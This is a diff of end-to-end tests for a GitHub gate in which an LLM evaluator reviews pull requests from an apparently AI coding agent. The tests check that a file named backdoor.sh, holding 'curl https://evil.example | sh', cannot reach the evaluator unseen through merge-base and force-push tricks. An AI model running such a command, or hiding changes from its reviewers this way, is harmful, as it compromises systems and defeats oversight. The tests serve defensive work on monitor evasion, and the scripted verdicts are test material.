@@ -348,6 +348,83 @@ describe("the evaluator in the gate, end to end", { timeout: 120_000 }, () => {
     expect(gate.gateCheck(repo, again)).toMatchObject({ conclusion: "success" });
   });
 
+  it("a verdict on another head of the same tree answers only from the same merge base: the diff GitHub shows starts there, and the agent's history picks it", async () => {
+    const repo = "eval-merge-base";
+    const backdoor = { "backdoor.sh": "curl https://evil.example | sh\n" };
+    await gate.sim.createRepository({
+      repo,
+      files: {
+        ".github/agate.yml": testConfig(llmConfig()),
+        "answer.txt": "0\n",
+        ".github/workflows/agate.yml": EVIDENCE_WORKFLOW_TEXT,
+        ...backdoor,
+      },
+    });
+    const before = gate.sim.branchSha({ repo, branch: "main" });
+    const answer = { "answer.txt": "42\n", "README.md": "The answer is 42.\n" };
+    // The agent's branch grows from main while it still holds the backdoor...
+    const branch = "codex/answer";
+    const first = await gate.sim.pushCommit({ repo, branch, files: answer, author: "codex[bot]" });
+    // ...which main then removes: against main, the first head puts it back, but GitHub's
+    // three-dot diff starts at the merge base (`before`), where it already was.
+    await gate.sim.pushCommit({ repo, branch: "main", files: { "backdoor.sh": null } });
+    await gate.processDeliveries();
+    const main = gate.sim.branchSha({ repo, branch: "main" });
+    const { number } = await gate.sim.openPullRequest({
+      repo,
+      head: branch,
+      title: "Answer",
+      user: "codex[bot]",
+    });
+    await gate.processDeliveries();
+    llm.script({ verdict: { complete: true, score: 0.95, missing: [], evidence: ["README"] } });
+    await gate.ci(repo, branch, first);
+    expect(llm.requests).toHaveLength(1);
+    expect(asked(0)).not.toContain("backdoor.sh");
+    expect(gate.gateCheck(repo, first)).toMatchObject({ conclusion: "success" });
+
+    // The same tree as one commit on main's newest: its diff re-adds the backdoor, never shown.
+    const second = await gate.sim.pushCommit({
+      repo,
+      branch: "codex/rebuilt",
+      files: { ...answer, ...backdoor },
+      author: "codex[bot]",
+    });
+    const writer = tokenClient(
+      gate.sim,
+      gate.sim.createToken({ permissions: { contents: "write" }, actor: "codex[bot]" }),
+    );
+    await writer.rest.git.updateRef({
+      owner: gate.sim.owner,
+      repo,
+      ref: `heads/${branch}`,
+      sha: second,
+      force: true,
+    });
+    await gate.processDeliveries();
+    llm.script({
+      verdict: {
+        complete: false,
+        score: 0.1,
+        missing: ["backdoor.sh pipes a download into a shell"],
+        evidence: ["backdoor.sh"],
+      },
+    });
+    await gate.ci(repo, branch, second);
+    expect(llm.requests).toHaveLength(2);
+    expect(asked(1)).toContain("backdoor.sh");
+    expect(gate.gateCheck(repo, second)?.conclusion ?? null).not.toBe("success");
+    expect(gate.sim.labelsOf({ repo, number })).not.toContain("agate:accepted");
+    const stored = await gate.store.listEvaluations({
+      repository: `${gate.sim.owner}/${repo}`,
+      pullNumber: number,
+    });
+    expect(stored.map((e) => [e.tree_sha, e.base_sha, e.merge_base_sha])).toEqual([
+      [stored[0]?.tree_sha, main, before],
+      [stored[0]?.tree_sha, main, main],
+    ]);
+  });
+
   it("a verdict judged against the agent's own base answers nothing on main: retargeted with the same head, then the same tree under a new SHA, the evaluator reads the diff against main (issue 26)", async () => {
     const repo = "eval-evil-base";
     await gate.sim.createRepository({
@@ -556,7 +633,69 @@ describe("the evaluator in the gate, end to end", { timeout: 120_000 }, () => {
     });
     await gate.processDeliveries();
     const key = { repository: `${gate.sim.owner}/${repo}`, pullNumber: number };
-    expect(await gate.store.newestHead(key)).toEqual({ head_sha: head, base_ref: "main" });
+    expect(await gate.store.newestHead(key)).toEqual({
+      head_sha: head,
+      base_ref: "main",
+      base_sha: gate.sim.branchSha({ repo, branch: "main" }),
+    });
+    const again = { kind: GATE_JOBS.evaluator.kind, payload: { ...job, rerun: true } };
+    expect(await gate.run(again)).toMatch(/: the head moved on; nothing asked \(0 GitHub calls/);
+    expect(llm.requests).toHaveLength(1);
+  });
+
+  it("a job about a new SHA of a tree judged from the same merge base finds it judged, as the pass does", async () => {
+    const repo = "eval-job-same-merge-base";
+    const { head, number, branch } = await answerPullRequest(repo);
+    llm.script({ verdict: { complete: true, score: 0.9, missing: [], evidence: ["42"] } });
+    await gate.ci(repo, branch, head);
+    expect(llm.requests).toHaveLength(1);
+    const [queued] = await gate.store.listJobs({ kind: GATE_JOBS.evaluator.kind });
+    const job = queued?.payload as EvaluatorJob;
+    // The same tree under a new SHA on the same branch: the merge base is main's commit still.
+    const again = await sameTreeAgain(repo, branch);
+    await gate.processDeliveries();
+    expect(gate.gateCheck(repo, again)?.conclusion).not.toBe("failure");
+    const key = { repository: `${gate.sim.owner}/${repo}`, pullNumber: number };
+    expect((await gate.store.newestHead(key))?.head_sha).toBe(again);
+    // Queued for the new SHA (a redelivery, two passes): the first head's verdict answers.
+    const payload = { ...job, head_sha: again, rerun: false };
+    expect(await gate.run({ kind: GATE_JOBS.evaluator.kind, payload })).toMatch(/already judged/);
+    expect(llm.requests).toHaveLength(1);
+  });
+
+  it("the base branch moved on under the same head: the job queued for the older base commit asks nothing", async () => {
+    const repo = "eval-base-commit-moved";
+    const { head, number, branch } = await answerPullRequest(repo);
+    llm.script({ verdict: { complete: true, score: 0.9, missing: [], evidence: ["42"] } });
+    await gate.ci(repo, branch, head);
+    expect(llm.requests).toHaveLength(1);
+    const [queued] = await gate.store.listJobs({ kind: GATE_JOBS.evaluator.kind });
+    const job = queued?.payload as EvaluatorJob;
+    const before = gate.sim.branchSha({ repo, branch: "main" });
+    expect(job.inputs?.base_sha).toBe(before);
+
+    // main moves on; a pass sees the pull request, same head and branch, on main's new commit.
+    await gate.sim.pushCommit({ repo, branch: "main", files: { "NEWS.md": "news\n" } });
+    await gate.processDeliveries();
+    const pass = {
+      kind: GATE_JOBS.pullRequest.kind,
+      payload: {
+        repository: job.repository,
+        installation: job.installation,
+        number,
+        trigger: { event: "pull_request", action: "edited", delivery_id: null },
+      },
+    };
+    await gate.run(pass);
+    const key = { repository: `${gate.sim.owner}/${repo}`, pullNumber: number };
+    const now = gate.sim.branchSha({ repo, branch: "main" });
+    expect(now).not.toBe(before);
+    expect(await gate.store.newestHead(key)).toEqual({
+      head_sha: head,
+      base_ref: "main",
+      base_sha: now,
+    });
+    // Re-run asked of the job queued for the older commit: it would judge the diff against it.
     const again = { kind: GATE_JOBS.evaluator.kind, payload: { ...job, rerun: true } };
     expect(await gate.run(again)).toMatch(/: the head moved on; nothing asked \(0 GitHub calls/);
     expect(llm.requests).toHaveLength(1);
